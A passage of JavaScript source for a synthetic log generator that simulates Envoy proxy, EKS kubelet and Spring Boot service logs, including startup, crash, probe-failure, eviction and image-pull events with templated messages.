  function traced(c) {
    const r = c.r
    const x = request(c)
    const tid = wk(c)
    c.S.conn += r.int(1, 40)
    const C = c.S.conn
    const S = digits(r, r.int(17, 19))
    const peer =
      x.xff === '-'
        ? `10.0.${r.int(0, 3)}.${r.int(10, 250)}:${r.int(32768, 60999)}`
        : r.chance(0.2)
          ? `[::ffff:10.0.${r.int(0, 3)}.${r.int(10, 250)}]:${r.int(32768, 60999)}`
          : `10.0.${r.int(0, 3)}.${r.int(10, 250)}:${r.int(32768, 60999)}`
    if (r.chance(0.6)) app(c, 'new_conn', tid, `[C${C}] new connection from ${peer}`)
    if (x.outcome !== 'NR')
      app(
        c,
        'cluster_match',
        tid,
        `[C${C}][S${S}] cluster '${x.cluster}' match for URL '${x.path}'`
      )
    if (x.outcome !== 'NR' && x.outcome !== 'UH')
      app(c, 'router_decoding', tid, `[C${C}][S${S}] router decoding headers:`)
    if (x.outcome === 'UF,URX' || x.outcome === 'URX' || x.outcome === 'UT') {
      const upC = C + r.int(1, 3)
      app(
        c,
        'up_reset',
        tid,
        `[C${C}][S${S}] upstream reset: reset reason: ${x.outcome === 'UT' ? 'overflow' : r.pick(['connection failure', 'remote reset', 'connection termination'])}, transport failure reason: ${x.outcome === 'UF,URX' ? r.pick(['delayed connect error: 111', 'delayed connect error: Connection refused']) : ''}`
      )
      if (r.chance(0.5))
        app(
          c,
          'disconnect_pending',
          tid,
          `[C${upC}] disconnect. resetting ${r.int(0, 1)} pending requests`
        )
    } else if (x.outcome === 'ok' || x.outcome === 'NR' || x.outcome === 'UH') {
      if (x.outcome === 'ok')
        app(c, 'up_headers', tid, `[C${C}][S${S}] upstream headers complete: end_stream=false`)
    }
    if (x.outcome !== 'DC')
      app(
        c,
        'encoding',
        tid,
        `[C${C}][S${S}] encoding headers via codec (end_stream=${x.bytesOut === 0 || x.m === 'HEAD'}):`
      )
    accessLine(c, x)
    if (r.chance(0.45)) {
      if (r.chance(0.7)) app(c, 'remote_close', tid, `[C${C}] remote close`)
      else app(c, 'closing_data', tid, `[C${C}] closing data_to_write=0 type=1`)
      app(c, 'closing_socket', tid, `[C${C}] closing socket: ${r.pick([0, 0, 1])}`)
    }
  }
  function tcp(c) {
    const r = c.r
    const d = r.wpick([
      [70, r.int(1000, 60100)],
      [30, r.int(5, 900)]
    ])
    c.out(
      'tcp_access',
      'info',
      `[${isoMs(c.t)}] `,
      `tcp 127.0.0.1:${r.int(32768, 60999)} -> ${r.chance(0.95) ? `10.0.14.${r.int(20, 23)}:6379` : '-'} ${r.int(20, 90000)} ${r.int(20, 400000)} ${d}ms ${r.wpick(
        [
          [90, '-'],
          [5, 'UF'],
          [5, 'UC']
        ]
      )}`
    )
  }
  function xds(c) {
    const since = c.S.xdsDown
    if (since === 0)
      app(
        c,
        'xds_closed',
        1,
        `StreamAggregatedResources gRPC config stream to cds_cluster closed: 14, ${c.r.pick(['upstream connect error or disconnect/reset before headers. reset reason: connection termination', 'connection error: desc = "transport: Error while dialing: dial tcp 10.0.0.2:443: i/o timeout"'])}`
      )
    else
      app(
        c,
        'xds_closed_since',
        1,
        `StreamAggregatedResources gRPC config stream to cds_cluster closed since ${since}s ago: 14, upstream connect error or disconnect/reset before headers. reset reason: connection termination`
      )
    c.S.xdsDown = since === 0 ? c.r.int(30, 60) : since + c.r.int(30, 120)
    if (c.r.chance(0.35)) c.S.xdsDown = 0
  }
  function cdsUpdate(c) {
    const add = c.r.int(1, 2)
    app(c, 'cds_add', 1, `cds: add ${add} cluster(s), remove ${c.r.int(0, 1)} cluster(s)`)
    app(
      c,
      'cds_skipped',
      1,
      `cds: added/updated ${add} cluster(s), skipped ${c.r.int(3, 6)} unmodified cluster(s)`
    )
    if (c.r.chance(0.5))
      app(c, 'lds_add', 1, "lds: add/update listener 'lds_ingress_0.0.0.0_15000'")
  }
  function startup(c) {
    c.S.epoch = 0
    app(
      c,
      'epoch',
      1,
      `initializing epoch 0 (base id=0, hot restart version=11.${c.r.pick([104, 120])})`
    )
    app(c, 'admin', 1, 'admin address: 0.0.0.0:9901')
    app(c, 'loading_stats', 1, 'loading stats configuration')
    app(c, 'loading_secrets', 1, 'loading 0 static secret(s)')
    app(c, 'loading_clusters', 1, `loading ${c.r.int(1, 2)} cluster(s)`)
    app(c, 'loading_listeners', 1, 'loading 1 listener(s)')
    if (c.S.deprecated-- > 0)
      app(
        c,
        'deprecated',
        1,
        "Deprecated field: type envoy.config.route.v3.HeaderMatcher Using deprecated option 'envoy.config.route.v3.HeaderMatcher.exact_match' from file route_components.proto. This configuration will be removed from Envoy soon. Please see https://www.envoyproxy.io/docs/envoy/latest/version_history/version_history for details. If continued use of this field is absolutely necessary, see https://www.envoyproxy.io/docs/envoy/latest/configuration/operations/runtime#using-runtime-overrides-for-deprecated-features for how to apply a temporary and highly discouraged override."
      )
    app(c, 'cm_init_cds', 1, 'cm init: initializing cds')
    app(c, 'rtds', 1, 'RTDS has finished initialization')
    c.tick(c.r.int(300, 1500))
    app(c, 'cds_add', 1, `cds: add ${c.r.int(4, 6)} cluster(s), remove 0 cluster(s)`)
    app(
      c,
      'cds_skipped',
      1,
      `cds: added/updated ${c.r.int(4, 6)} cluster(s), skipped 0 unmodified cluster(s)`
    )
    app(c, 'cm_init_all', 1, 'cm init: all clusters initialized')
    app(c, 'all_clusters', 1, 'all clusters initialized. initializing init manager')
    app(c, 'lds_add', 1, "lds: add/update listener 'lds_ingress_0.0.0.0_15000'")
    app(c, 'lds_add', 1, "lds: add/update listener 'lds_egress_0.0.0.0_15001'")
    app(c, 'all_deps', 1, 'all dependencies initialized. starting workers')
    app(c, 'dispatch', 1, 'starting main dispatch loop')
    c.S.conn = c.r.int(0, 20)
  }
  function shutdown(c) {
    app(c, 'sigterm', 1, 'caught ENVOY_SIGTERM')
    app(c, 'shutting_down', 1, 'shutting down server instance')
    app(c, 'loop_exited', 1, 'main dispatch loop exited')
    app(c, 'exiting', 1, 'exiting')
    c.tick(20000)
    startup(c)
  }
  function crash(c) {
    const tid = wk(c)
    app(
      c,
      'segv',
      tid,
      `Caught Segmentation fault, suspect faulting address 0x${c.r.pick(['0', '18', '7f3c2a1be010'])}`
    )
    app(c, 'bt_hdr', tid, 'Backtrace (use tools/stack_decode.py to get line numbers):')
    app(
      c,
      'bt_version',
      tid,
      'Envoy version: 1a0d8ac3c8e4fbbe8ed1c3c5e1f6dffea29d0a35/1.29.12/Clean/RELEASE/BoringSSL'
    )
    const fr = [
      '__restore_rt',
      'Envoy::Http::ConnectionManagerImpl::ActiveStream::decodeHeaders()',
      'Envoy::Http::Http1::ServerConnectionImpl::onMessageComplete()',
      'Envoy::Http::Http1::ConnectionImpl::dispatch()',
      'Envoy::Network::ConnectionImpl::onReadReady()',
      'Envoy::Event::DispatcherImpl::run()'
    ]
    fr.forEach((f, i) =>
      app(c, 'bt_frame', tid, `#${i}: ${f} [0x${c.r.pick(['55', '7f'])}${c.r.hex(10)}]`)
    )
    c.tick(15000)
    startup(c)
  }
  return {
    name: 'envoy',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(10, 1800),
    intra: 3,
    templates: T.map(([k, , , , tpl]) => [k, tpl]),
    init: (c) => {
      c.S.conn = 0
      c.S.xdsDown = 0
      c.S.deprecated = 2
    },
    filler: plain,
    episodes: [
      { at: [0], run: startup },
      { at: [0.45], run: shutdown },
      { at: [0.74], run: crash },
      { w: 55, run: plain },
      { w: 8, run: traced },
      { w: 9, run: tcp },
      { w: 3, run: xds },
      { w: 1.5, run: cdsUpdate },
      {
        n: 1,
        run: (c) =>
          app(
            c,
            'rejected',
            1,
            'gRPC config for type.googleapis.com/envoy.config.route.v3.RouteConfiguration rejected: Only unique values for domains are permitted. Duplicate entry of domain orders.internal in route rds_ingress_http_8080'
          )
      }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// kubelet: an EKS worker node's kubelet (klog, structured messages), as shipped from journald to
// CloudWatch by Fluent Bit ('Lmmdd hh:mm:ss.uuuuuu <pid> file:line] msg').

function kubelet() {
  const V = (s) => s.replace(/\{V\}/g, '\\"<*>\\"')
  const T = [
    ['add', 'I', 'kubelet.go:2436', '"SyncLoop ADD" source="<*>" pods=[<*>]'],
    ['update', 'I', 'kubelet.go:2442', '"SyncLoop UPDATE" source="<*>" pods=[<*>]'],
    ['delete', 'I', 'kubelet.go:2445', '"SyncLoop DELETE" source="<*>" pods=[<*>]'],
    ['remove', 'I', 'kubelet.go:2439', '"SyncLoop REMOVE" source="<*>" pods=[<*>]'],
    ['reconcile', 'I', 'kubelet.go:2458', '"SyncLoop RECONCILE" source="<*>" pods=[<*>]'],
    [
      'pleg',
      'I',
      'kubelet.go:2484',
      '"SyncLoop (PLEG): event for pod" pod="<*>" event={"ID":"<*>","Type":"<*>","Data":"<*>"}'
    ],
    ['probe', 'I', 'kubelet.go:2563', '"SyncLoop (probe)" probe="<*>" status="<*>" pod="<*>"'],
    [
      'probe_failed',
      'I',
      'prober.go:107',
      '"Probe failed" probeType="<*>" pod="<*>" podUID="<*>" containerName="<*>" probeResult="<*>" output="<*>"'
    ],
    [
      'killing',
      'I',
      'kuberuntime_container.go:809',
      '"Killing container with a grace period" pod="<*>" podUID="<*>" containerName="<*>" containerID="<*>" gracePeriod=<*>'
    ],
    ['remove_container', 'I', 'scope.go:117', '"RemoveContainer" containerID="<*>"'],
    [
      'status_failed',
      'E',
      'log.go:32',
      '"ContainerStatus from runtime service failed" err="<*>" containerID="<*>"'
    ],
    [
      'delete_err',
      'I',
      'pod_container_deletor.go:53',
      '"DeleteContainer returned error" containerID={"Type":"<*>","ID":"<*>"} err="<*>"'
    ],
    [
      'sync_err',
      'E',
      'pod_workers.go:1301',
      '"Error syncing pod, skipping" err="<*>" pod="<*>" podUID="<*>"'
    ],
    [
      'verify_vol',
      'I',
      'reconciler_common.go:245',
      V(
        '"operationExecutor.VerifyControllerAttachedVolume started for volume {V} (UniqueName: {V}) pod {V} (UID: {V}) " pod="<*>"'
      )
    ],
    [
      'mount_vol',
      'I',
      'reconciler_common.go:218',
      V(
        '"operationExecutor.MountVolume started for volume {V} (UniqueName: {V}) pod {V} (UID: {V}) " pod="<*>"'
      )
    ],
    [
      'setup_ok',
      'I',
      'operation_generator.go:637',
      V(
        '"MountVolume.SetUp succeeded for volume {V} (UniqueName: {V}) pod {V} (UID: {V}) " pod="<*>"'
      )
    ],
    [
      'unmount_vol',
      'I',
      'reconciler_common.go:159',
      V(
        '"operationExecutor.UnmountVolume started for volume {V} (UniqueName: {V}) pod {V} (UID: {V}) "'
      )
    ],
    [
      'teardown_ok',
      'I',
      'operation_generator.go:803',
      V(
        '"UnmountVolume.TearDown succeeded for volume {V} (OuterVolumeSpecName: {V}) pod {V} (UID: {V}). InnerVolumeSpecName {V}. PluginName {V}, VolumeGidValue \\"\\""'
      )
    ],
    [
      'detached',
      'I',
      'reconciler_common.go:299',
      V('"Volume detached for volume {V} (UniqueName: {V}) on node {V} DevicePath \\"\\""')
    ],
    [
      'startup_dur',
      'I',
      'pod_startup_latency_tracker.go:104',
      '"Observed pod startup duration" pod="<*>" podStartSLOduration=<*> podStartE2EDuration="<*>" podCreationTimestamp="<*>" firstStartedPulling="<*>" lastFinishedPulling="<*>" observedRunningTime="<*>" watchObservedRunningTime="<*>"'
    ],
    [
      'no_sandbox',
      'I',
      'util.go:30',
      '"No sandbox for pod can be found. Need to start a new one" pod="<*>"'
    ],
    [
      'orphan_dir',
      'I',
      'kubelet_volumes.go:163',
      '"Cleaned up orphaned pod volumes dir" podUID="<*>" path="<*>"'
    ],
    ['log_stats', 'E', 'log_metrics.go:66', '"Unable to fetch pod log stats" err="<*>" pod="<*>"'],
    ['nameserver', 'E', 'dns.go:153', '"Nameserver limits exceeded" err="<*>"'],
    ['config_path', 'W', 'file_linux.go:61', '"Unable to read config path" err="<*>" path="<*>"'],
    [
      'cpu_remove',
      'I',
      'cpu_manager.go:410',
      '"RemoveStaleState: removing container" podUID="<*>" containerName="<*>"'
    ],
    [
      'cpuset_deleted',
      'I',
      'state_mem.go:107',
      '"Deleted CPUSet assignment" podUID="<*>" containerName="<*>"'
    ],
    [
      'mem_remove',
      'I',
      'memory_manager.go:354',
      '"RemoveStaleState removing state" podUID="<*>" containerName="<*>"'
    ],
    [
      'evict_attempt',
      'I',
      'eviction_manager.go:366',
      '"Eviction manager: attempting to reclaim" resourceName="<*>"'
    ],
    [
      'evict_must',
      'I',
      'eviction_manager.go:377',
      '"Eviction manager: must evict pod(s) to reclaim" resourceName="<*>"'
    ],
    [
      'evict_ranked',
      'I',
      'eviction_manager.go:395',
      '"Eviction manager: pods ranked for eviction" pods=[<*>]'
    ],
    [
      'evicted',
      'I',
      'eviction_manager.go:616',
      '"Eviction manager: pod is evicted successfully" pod="<*>"'
    ],
    [
      'node_status',
      'E',
      'kubelet_node_status.go:549',
      '"Error updating node status, will retry" err="<*>"'
    ],
    [
      'disk_usage',
      'I',
      'image_gc_manager.go:391',
      '"Disk usage on image filesystem is over the high threshold, trying to free bytes down to the low threshold" usage=<*> highThreshold=<*> amountToFree=<*> lowThreshold=<*>'
    ],
    [
      'remove_image',
      'I',
      'image_gc_manager.go:447',
      '"Removing image to free bytes" imageID="<*>" size=<*> runtimeHandler="<*>"'
    ],
    [
      'pull_failed',
      'E',
      'remote_image.go:180',
      '"PullImage from image service failed" err="<*>" image="<*>"'
    ],
    ['tls_err', 'I', 'log.go:245', 'http: TLS handshake error from <*>: <*>']
  ]
  const KL = { I: 'info', W: 'warning', E: 'error', F: 'critical' }
  const meta = new Map(T.map(([k, L, src]) => [k, { L, src }]))
  const PID = 3138
  const NODE = 'ip-10-0-12-47.ec2.internal'
  function K(c, k, msg) {
    const m = meta.get(k)
    const p = tp(c.t)
    const us = pad(Number(p.ms) * 1000 + c.r.int(0, 999), 6)
    c.out(
      k,
      KL[m.L],
      `${m.L}${p.M}${p.D} ${p.h}:${p.m}:${p.s}.${us} ${String(PID).padStart(7)} ${m.src}] `,
      msg
    )
  }
  const APPS = [
    [
      6,
      {
        ns: 'default',
        app: 'orders-api',
        containers: ['app'],
        vols: ['config'],
        port: 8080,
        path: '/actuator/health/readiness',
        image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/orders-api:v1.8.2'
      }
    ],
    [
      4,
      {
        ns: 'payments',
        app: 'payments-worker',
        containers: ['worker'],
        vols: ['aws-iam-token'],
        port: 9090,
        path: '/healthz',
        image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/payments-worker:2025.03.10-3'
      }
    ],
    [
      4,
      {
        ns: 'default',
        app: 'web-frontend',
        containers: ['web', 'nginx'],
        vols: [],
        port: 3000,
        path: '/ready',
        image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/web-frontend:4.2.0'
      }
    ],
    [
      1,
      {
        ns: 'kube-system',
        app: 'coredns',
        containers: ['coredns'],
        vols: ['config-volume'],
        port: 8181,
        path: '/ready',
        image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/eks/coredns:v1.11.4-eksbuild.2'
      }
    ],
    [
      1,
      {
        ns: 'amazon-cloudwatch',
        app: 'fluent-bit',
        containers: ['fluent-bit'],
        vols: ['fluent-bit-config', 'aws-iam-token'],
        port: 2020,
        path: '/api/v1/health',
        image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4'
      }
    ]
  ]
  function newPod(c, spec) {
    const r = c.r
    const a = spec ?? r.wpick(APPS)
    const hash = r.alnum(r.int(9, 10))
    const name = `${a.app}-${hash}-${r.alnum(5)}`
    return {
      ...a,
      name,
      full: `${a.ns}/${name}`,
      uid: r.uuid(),
      ip: `10.0.${r.int(12, 13)}.${r.int(2, 250)}`,
      cids: a.containers.map(() => r.hex(64)),
      sandbox: r.hex(64),
      api: `kube-api-access-${r.alnum(5)}`,
      created: c.t
    }
  }
  const pickPod = (c, pred) => {
    const l = c.S.pods.filter((p) => !pred || pred(p))
    return l.length ? c.r.pick(l) : c.S.pods[0]
  }
  const vols = (p) => [
    [p.api, `kubernetes.io/projected/${p.uid}-${p.api}`, 'kubernetes.io/projected'],
    ...p.vols.map((v) =>
      v === 'aws-iam-token'
        ? [v, `kubernetes.io/projected/${p.uid}-${v}`, 'kubernetes.io/projected']
        : [v, `kubernetes.io/configmap/${p.uid}-${v}`, 'kubernetes.io/configmap']
    )
  ]
  const ktime = (t) => `${ymdHms(t)} +0000 UTC`
  const ktimeNs = (c, t) =>
    `${ymdHms(t)}.${pad(new Date(t).getUTCMilliseconds(), 3)}${c.r.int(100000, 999999)} +0000 UTC`
  function podStart(c) {
    const r = c.r
    const p = newPod(c)
    K(c, 'add', `"SyncLoop ADD" source="api" pods=["${p.full}"]`)
    const vs = vols(p)
    for (const [v, u] of vs)
      K(
        c,
        'verify_vol',
        `"operationExecutor.VerifyControllerAttachedVolume started for volume \\"${v}\\" (UniqueName: \\"${u}\\") pod \\"${p.name}\\" (UID: \\"${p.uid}\\") " pod="${p.full}"`
      )
    for (const [v, u] of vs)
      K(
        c,
        'mount_vol',
        `"operationExecutor.MountVolume started for volume \\"${v}\\" (UniqueName: \\"${u}\\") pod \\"${p.name}\\" (UID: \\"${p.uid}\\") " pod="${p.full}"`
      )
    for (const [v, u] of vs)
      K(
        c,
        'setup_ok',
        `"MountVolume.SetUp succeeded for volume \\"${v}\\" (UniqueName: \\"${u}\\") pod \\"${p.name}\\" (UID: \\"${p.uid}\\") " pod="${p.full}"`
      )
    K(c, 'no_sandbox', `"No sandbox for pod can be found. Need to start a new one" pod="${p.full}"`)
    c.tick(r.int(800, 2500))
    const pulled = r.chance(0.3)
    const pullStart = c.t
    if (pulled) c.tick(r.int(3000, 15000))
    const pullEnd = c.t
    K(
      c,
      'pleg',
      `"SyncLoop (PLEG): event for pod" pod="${p.full}" event={"ID":"${p.uid}","Type":"ContainerStarted","Data":"${p.sandbox}"}`
    )
    for (const id of p.cids)
      K(
        c,
        'pleg',
        `"SyncLoop (PLEG): event for pod" pod="${p.full}" event={"ID":"${p.uid}","Type":"ContainerStarted","Data":"${id}"}`
      )
    const run = c.t
    K(
      c,
      'startup_dur',
      `"Observed pod startup duration" pod="${p.full}" podStartSLOduration=${(r.int(1000, 4000) / 1000 + r.next() / 1000).toFixed(9)} podStartE2EDuration="${((c.t - p.created) / 1000).toFixed(r.int(3, 6))}s" podCreationTimestamp="${ktime(p.created)}" firstStartedPulling="${pulled ? ktimeNs(c, pullStart) : '0001-01-01 00:00:00 +0000 UTC'}" lastFinishedPulling="${pulled ? ktimeNs(c, pullEnd) : '0001-01-01 00:00:00 +0000 UTC'}" observedRunningTime="${ktimeNs(c, run)}" watchObservedRunningTime="${ktimeNs(c, run + r.int(1, 40))}"`
    )
    K(c, 'probe', `"SyncLoop (probe)" probe="readiness" status="" pod="${p.full}"`)
    c.tick(r.int(2000, 9000))
    K(c, 'probe', `"SyncLoop (probe)" probe="readiness" status="ready" pod="${p.full}"`)
    c.S.pods.push(p)
  }
  function podDelete(c) {
    const r = c.r
    if (c.S.pods.length < 6) return podStart(c)
    const p = c.S.pods.splice(r.int(0, c.S.pods.length - 1), 1)[0]
    K(c, 'delete', `"SyncLoop DELETE" source="api" pods=["${p.full}"]`)
    p.containers.forEach((n, i) =>
      K(
        c,
        'killing',
        `"Killing container with a grace period" pod="${p.full}" podUID="${p.uid}" containerName="${n}" containerID="containerd://${p.cids[i]}" gracePeriod=30`
      )
    )
    c.tick(r.int(500, 4000))
    for (const id of [...p.cids, p.sandbox])
      K(
        c,
        'pleg',
        `"SyncLoop (PLEG): event for pod" pod="${p.full}" event={"ID":"${p.uid}","Type":"ContainerDied","Data":"${id}"}`
      )
    const vs = vols(p)
    for (const [v, u] of vs)
      K(
        c,
        'unmount_vol',
        `"operationExecutor.UnmountVolume started for volume \\"${v}\\" (UniqueName: \\"${u}\\") pod \\"${p.uid}\\" (UID: \\"${p.uid}\\") "`
      )
    for (const [v, u, plugin] of vs)
      K(
        c,
        'teardown_ok',
        `"UnmountVolume.TearDown succeeded for volume \\"${u}\\" (OuterVolumeSpecName: \\"${v}\\") pod \\"${p.uid}\\" (UID: \\"${p.uid}\\"). InnerVolumeSpecName \\"${v}\\". PluginName \\"${plugin}\\", VolumeGidValue \\"\\""`
      )
    for (const [v, u] of vs)
      K(
        c,
        'detached',
        `"Volume detached for volume \\"${v}\\" (UniqueName: \\"${u}\\") on node \\"${NODE}\\" DevicePath \\"\\""`
      )
    K(c, 'update', `"SyncLoop UPDATE" source="api" pods=["${p.full}"]`)
    K(c, 'remove', `"SyncLoop REMOVE" source="api" pods=["${p.full}"]`)
    for (const id of p.cids) K(c, 'remove_container', `"RemoveContainer" containerID="${id}"`)
  }
  function update(c) {
    const n = c.r.wpick([
      [80, 1],
      [15, 2],
      [5, 3]
    ])
    const l = c.r.sample(c.S.pods, n).map((p) => `"${p.full}"`)
    K(c, 'update', `"SyncLoop UPDATE" source="api" pods=[${l.join(',')}]`)
  }
  function probe(c) {
    const p = pickPod(c)
    const v = c.r.wpick([
      [60, ['readiness', 'ready']],
      [15, ['readiness', 'not ready']],
      [15, ['liveness', 'unhealthy']],
      [10, ['startup', 'started']]
    ])
    K(c, 'probe', `"SyncLoop (probe)" probe="${v[0]}" status="${v[1]}" pod="${p.full}"`)
  }
  function probeFailed(c) {
    const r = c.r
    const p = pickPod(c, (x) => x.ns !== 'kube-system')
    const type = r.chance(0.7) ? 'Readiness' : 'Liveness'
    const url = `http://${p.ip}:${p.port}${p.path}`
    const out = r.wpick([
      [40, `Get \\"${url}\\": dial tcp ${p.ip}:${p.port}: connect: connection refused`],
      [
        35,
        `Get \\"${url}\\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)`
      ],
      [25, 'HTTP probe failed with statuscode: 503']
    ])
    K(
      c,
      'probe_failed',
      `"Probe failed" probeType="${type}" pod="${p.full}" podUID="${p.uid}" containerName="${p.containers[0]}" probeResult="failure" output="${out}"`
    )
    if (r.chance(0.4))
      K(
        c,
        'probe',
        `"SyncLoop (probe)" probe="${type.toLowerCase()}" status="${type === 'Readiness' ? 'not ready' : 'unhealthy'}" pod="${p.full}"`
      )
  }
  function crashLoop(c) {
    const r = c.r
    const p = pickPod(c, (x) => x.ns !== 'kube-system')
    if (r.chance(0.5))
      K(
        c,
        'pleg',
        `"SyncLoop (PLEG): event for pod" pod="${p.full}" event={"ID":"${p.uid}","Type":"ContainerDied","Data":"${p.cids[0]}"}`
      )
    const back = r.pick(['10s', '20s', '40s', '1m20s', '2m40s', '5m0s'])
    K(
      c,
      'sync_err',
      `"Error syncing pod, skipping" err="failed to \\"StartContainer\\" for \\"${p.containers[0]}\\" with CrashLoopBackOff: \\"back-off ${back} restarting failed container=${p.containers[0]} pod=${p.name}_${p.ns}(${p.uid})\\"" pod="${p.full}" podUID="${p.uid}"`
    )
  }
  function pullFailed(c) {
    const p = newPod(c, APPS[0][1])
    const img = p.image.replace('v1.8.2', 'v1.8.3')
    K(
      c,
      'pull_failed',
      `"PullImage from image service failed" err="rpc error: code = NotFound desc = failed to pull and unpack image \\"${img}\\": failed to resolve reference \\"${img}\\": ${img}: not found" image="${img}"`
    )
    K(
      c,
      'sync_err',
      `"Error syncing pod, skipping" err="failed to \\"StartContainer\\" for \\"app\\" with ErrImagePull: \\"rpc error: code = NotFound desc = failed to pull and unpack image \\\\\\"${img}\\\\\\": failed to resolve reference \\\\\\"${img}\\\\\\": ${img}: not found\\"" pod="${p.full}" podUID="${p.uid}"`
    )
  }
  function statusFailed(c) {
    const id = c.r.hex(64)
    K(
      c,
      'status_failed',
      `"ContainerStatus from runtime service failed" err="rpc error: code = NotFound desc = an error occurred when try to find container \\"${id}\\": not found" containerID="${id}"`
    )
    K(
      c,
      'delete_err',
      `"DeleteContainer returned error" containerID={"Type":"containerd","ID":"${id}"} err="failed to get container status \\"${id}\\": rpc error: code = NotFound desc = an error occurred when try to find container \\"${id}\\": not found"`
    )
  }
  function staleState(c) {
    const p = newPod(c, APPS[0][1])
    K(
      c,
      'cpu_remove',
      `"RemoveStaleState: removing container" podUID="${p.uid}" containerName="app"`
    )
    K(c, 'cpuset_deleted', `"Deleted CPUSet assignment" podUID="${p.uid}" containerName="app"`)
    K(c, 'mem_remove', `"RemoveStaleState removing state" podUID="${p.uid}" containerName="app"`)
  }
  function eviction(c) {
    K(
      c,
      'evict_attempt',
      '"Eviction manager: attempting to reclaim" resourceName="ephemeral-storage"'
    )
    K(
      c,
      'evict_must',
      '"Eviction manager: must evict pod(s) to reclaim" resourceName="ephemeral-storage"'
    )
    const ranked = c.r.sample(c.S.pods, 4)
    K(
      c,
      'evict_ranked',
      `"Eviction manager: pods ranked for eviction" pods=[${ranked.map((p) => `"${p.full}"`).join(',')}]`
    )
    const p = ranked[0]
    K(
      c,
      'killing',
      `"Killing container with a grace period" pod="${p.full}" podUID="${p.uid}" containerName="${p.containers[0]}" containerID="containerd://${p.cids[0]}" gracePeriod=0`
    )
    c.tick(c.r.int(500, 2000))
    K(c, 'evicted', `"Eviction manager: pod is evicted successfully" pod="${p.full}"`)
  }
  function imageGc(c) {
    K(
      c,
      'disk_usage',
      `"Disk usage on image filesystem is over the high threshold, trying to free bytes down to the low threshold" usage=86 highThreshold=85 amountToFree=${c.r.int(860000000, 990000000)} lowThreshold=80`
    )
    for (let i = 0; i < 2; i++)
      K(
        c,
        'remove_image',
        `"Removing image to free bytes" imageID="sha256:${c.r.hex(64)}" size=${c.r.int(60000000, 480000000)} runtimeHandler=""`
      )
  }
  return {
    name: 'kubelet',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(100, 12000),
    intra: 4,
    templates: T.map(([k, , , tpl]) => [k, tpl]),
    init: (c) => {
      c.S.pods = []
      for (let i = 0; i < 12; i++) c.S.pods.push(newPod(c))
    },
    filler: update,
    episodes: [
      { w: 3, run: podStart },
      { w: 2.5, run: podDelete },
      { w: 16, run: update },
      { w: 12, run: probe },
      { w: 9, run: probeFailed },
      { w: 5, run: crashLoop },
      {
        w: 6,
        run: (c) =>
          K(
            c,
            'nameserver',
            '"Nameserver limits exceeded" err="Nameserver limits were exceeded, some nameservers have been omitted, the applied nameserver line is: 10.100.0.10 169.254.169.253 10.0.0.2"'
          )
      },
      {
        w: 8,
        run: (c) =>
          K(
            c,
            'config_path',
            '"Unable to read config path" err="path does not exist, ignoring" path="/etc/kubernetes/manifests"'
          )
      },
      {
        w: 3,
        run: (c) =>
          K(
            c,
            'tls_err',
            `http: TLS handshake error from 10.0.${c.r.int(0, 3)}.${c.r.int(10, 250)}:${c.r.int(32768, 60999)}: ${c.r.pick(['EOF', 'EOF', 'read: connection reset by peer', 'remote error: tls: bad certificate'])}`
          )
      },
      {
        w: 2,
        run: (c) => {
          const p = pickPod(c)
          K(
            c,
            'log_stats',
            `"Unable to fetch pod log stats" err="open /var/log/pods/${p.ns}_${p.name}_${p.uid}: no such file or directory" pod="${p.full}"`
          )
        }
      },
      {
        w: 2,
        run: (c) => {
          const u = c.r.uuid()
          K(
            c,
            'orphan_dir',
            `"Cleaned up orphaned pod volumes dir" podUID="${u}" path="/var/lib/kubelet/pods/${u}/volumes"`
          )
        }
      },
      {
        w: 1.5,
        run: (c) =>
          K(c, 'reconcile', `"SyncLoop RECONCILE" source="api" pods=["${pickPod(c).full}"]`)
      },
      { n: 2, run: statusFailed },
      { n: 2, run: staleState },
      { n: 1, run: eviction },
      { n: 1, run: imageGc },
      { n: 2, run: pullFailed },
      {
        n: 2,
        run: (c) =>
          K(
            c,
            'node_status',
            `"Error updating node status, will retry" err="error getting node \\"${NODE}\\": Get \\"https://4F2A91C3D0E7B8A6C5D4E3F2A1B0C9D8.gr7.us-east-1.eks.amazonaws.com/api/v1/nodes/${NODE}?timeout=10s\\": context deadline exceeded"`
          )
      }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// spring-boot: a Spring Boot 3.4 service on ECS (awslogs driver), default console pattern
// '%d %5p <pid> --- [<app>] [%15.15t] %-40.40logger{39} : %m'. Stack traces are printed line by
// line and the awslogs driver has no multiline pattern, so each frame is its own event.

function springBoot() {
  const T = [
    [
      's_starting',
      'com.example.orders.OrdersApplication',
      'Starting OrdersApplication v<*> using Java <*> with PID <*> (<*> started by <*> in <*>)'
    ],
    [
      's_profile',
      'com.example.orders.OrdersApplication',
      'The following <*> profile is active: "<*>"'
    ],
    [
      's_repo_boot',
      '.s.d.r.c.RepositoryConfigurationDelegate',
      'Bootstrapping Spring Data JPA repositories in DEFAULT mode.'
    ],
    [
      's_repo_done',
      '.s.d.r.c.RepositoryConfigurationDelegate',
      'Finished Spring Data repository scanning in <*> ms. Found <*> JPA repository interfaces.'
    ],
    [
      's_tomcat_init',
      'o.s.b.w.embedded.tomcat.TomcatWebServer',
      'Tomcat initialized with port <*> (http)'
    ],
    ['s_service', 'o.apache.catalina.core.StandardService', 'Starting service [Tomcat]'],
    [
      's_engine',
      'o.apache.catalina.core.StandardEngine',
      'Starting Servlet engine: [Apache Tomcat/<*>]'
    ],
    [
      's_ctx',
      'o.a.c.c.C.[Tomcat].[localhost].[/]',
      'Initializing Spring embedded WebApplicationContext'
    ],
    [
      's_root',
      'w.s.c.ServletWebServerApplicationContext',
      'Root WebApplicationContext: initialization completed in <*> ms'
    ],
    [
      's_pu',
      'o.hibernate.jpa.internal.util.LogHelper',
      'HHH000204: Processing PersistenceUnitInfo [name: default]'
    ],
    ['s_hver', 'org.hibernate.Version', 'HHH000412: Hibernate ORM core version <*>'],
    ['s_hk_start', 'com.zaxxer.hikari.HikariDataSource', 'HikariPool-1 - Starting...'],
    ['s_hk_added', 'com.zaxxer.hikari.pool.HikariPool', 'HikariPool-1 - Added connection <*>'],
